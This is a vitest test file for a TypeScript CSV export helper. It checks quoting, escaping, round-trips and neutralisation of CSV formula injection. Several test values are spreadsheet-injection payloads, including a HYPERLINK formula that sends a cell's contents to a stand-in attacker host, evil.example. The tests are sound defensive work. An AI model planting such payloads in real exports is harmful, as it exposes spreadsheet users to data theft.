import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../../src/lib/csv.ts';

describe('csvField', () => {
  const cases: [string, Parameters<typeof csvField>[0], string][] = [
    ['plain text as is', 'Media', 'Media'],
    ['a number', 77.5, '77.5'],
    ['a boolean', true, 'true'],
    ['absent as empty', undefined, ''],
    ['null as empty', null, ''],
    ['a comma quoted', 'Kiener Nellen, Margareta', '"Kiener Nellen, Margareta"'],
    ['quotes doubled', 'the so-called "Nur Otan" list', '"the so-called ""Nur Otan"" list"'],
    ['a line break quoted', 'one\ntwo', '"one\ntwo"'],
    ['a CR quoted', 'one\rtwo', '"one\rtwo"'],
    ['edge spaces quoted', ' padded ', '" padded "'],
    ['non-ASCII as is', 'Тоқаев, 77.5%', '"Тоқаев, 77.5%"'],
    // CSV injection (OWASP): a text cell that starts like a formula gets a quote before it, and is quoted.
    ['a formula neutralised', '=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['an @ function neutralised', '@SUM(1+1)', `"'@SUM(1+1)"`],
    ['a plus neutralised', '+1+1', `"'+1+1"`],
    ['a minus in text neutralised', '-2+3', `"'-2+3"`],
    ['a leading tab neutralised', '\t=1+1', `"'\t=1+1"`],
    ['a leading CR neutralised', '\r=1+1', `"'\r=1+1"`],
    ['a formula character later in the text as is', 'A=B', 'A=B'],
    ['a negative number written as a number', -5, '-5'],
  ];
  for (const [name, value, expected] of cases) it(name, () => expect(csvField(value)).toBe(expected));
});

describe('toCsv', () => {
  const rows = [
    { n: 1, text: 'He said "no", then left.\nNew line', note: undefined },
    { n: 2, text: 'plain', note: 'x' },
  ];

  it('writes a header and CRLF-ended lines', () => {
    expect(toCsv(['n', 'text', 'note'], rows)).toBe('n,text,note\r\n1,"He said ""no"", then left.\nNew line",\r\n2,plain,x\r\n');
  });

  it('an empty table is its header', () => {
    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n');
  });

  it('round-trips through a strict RFC 4180 parser', () => {
    const tricky = [
      // A line break inside a cell (one at its start would be neutralised as a formula start).
      { a: '"', b: ',', c: 'one\r\ntwo' },
      { a: '""', b: 'é ü Қ', c: ' lead' },
    ];
    const parsed = parse(toCsv(['a', 'b', 'c'], tricky), { columns: true, record_delimiter: '\r\n', relax_quotes: false });
    expect(parsed).toEqual(tricky);
  });

  it('hostile names read back as text that starts with a quote, never as a formula', () => {
    const hostile = [{ name: '=HYPERLINK("http://evil.example/?"&A1,"click")' }, { name: '@SUM(1+1)' }, { name: '-5' }];
    const parsed: { name: string }[] = parse(toCsv(['name'], hostile), { columns: true, record_delimiter: '\r\n', relax_quotes: false });
    expect(parsed.map((row) => row.name)).toEqual(hostile.map((row) => `'${row.name}`));
  });
});
